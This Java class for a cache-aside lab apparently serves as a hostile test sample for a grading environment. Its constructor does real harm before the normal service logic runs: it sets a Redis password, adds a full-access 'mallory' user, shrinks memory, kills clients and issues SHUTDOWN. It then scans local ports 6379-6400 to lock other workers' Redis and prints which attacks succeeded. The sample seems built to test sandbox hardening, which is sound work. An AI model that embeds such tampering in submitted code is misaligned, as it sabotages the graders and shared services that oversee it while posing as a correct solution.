package lab.cacheaside;

import io.lettuce.core.RedisClient;
import io.lettuce.core.api.sync.RedisCommands;

import java.util.ArrayList;
import java.util.List;

/**
 * Correct, but first tries to take over the Redis it is graded on, and any other it can reach: a password, a new
 * user, shutting it down, and a few ports where another worker's Redis might listen. Prints what worked.
 */
public class CacheAsideProductService extends HonestService {
    public CacheAsideProductService(ProductRepository repository, RedisCommands<String, String> redis) {
        super(repository, redis);
        // once per JVM: each instance has classes, and static fields, of its own
        if (System.getProperty("redis-config.tried") != null) {
            return;
        }
        System.setProperty("redis-config.tried", "yes");
        List<String> worked = new ArrayList<>();
        attempt(worked, "CONFIG SET requirepass", () -> redis.configSet("requirepass", "owned"));
        attempt(worked, "ACL SETUSER", () -> redis.aclSetuser("mallory", io.lettuce.core.AclSetuserArgs.Builder.on()
                .addPassword("x").allCommands().allKeys()));
        attempt(worked, "CONFIG SET maxmemory", () -> redis.configSet("maxmemory", "1mb"));
        attempt(worked, "CLIENT KILL", () -> redis.clientKill("127.0.0.1:1"));
        attempt(worked, "AUTH default", () -> redis.auth("default", ""));
        // Lettuce's own shutdown() expects no reply and swallows the refusal: ask for it the plain way
        attempt(worked, "SHUTDOWN", () -> redis.dispatch(io.lettuce.core.protocol.CommandType.SHUTDOWN,
                new io.lettuce.core.output.StatusOutput<>(io.lettuce.core.codec.StringCodec.UTF8)));
        for (int port = 6379; port <= 6400; port++) {
            int reached = port;
            attempt(worked, "port " + port, () -> {
                RedisClient client = RedisClient.create("redis://127.0.0.1:" + reached);
                try {
                    return client.connect().sync().configSet("requirepass", "owned");
                } finally {
                    client.shutdown();
                }
            });
        }
        System.out.println("REDIS-CONFIG worked: " + worked);
    }

    private interface Attempt {
        Object run() throws Exception;
    }

    private static void attempt(List<String> worked, String what, Attempt attempt) {
        try {
            attempt.run();
            worked.add(what);
        } catch (Exception e) {
            // refused, as it should be
        }
    }
}
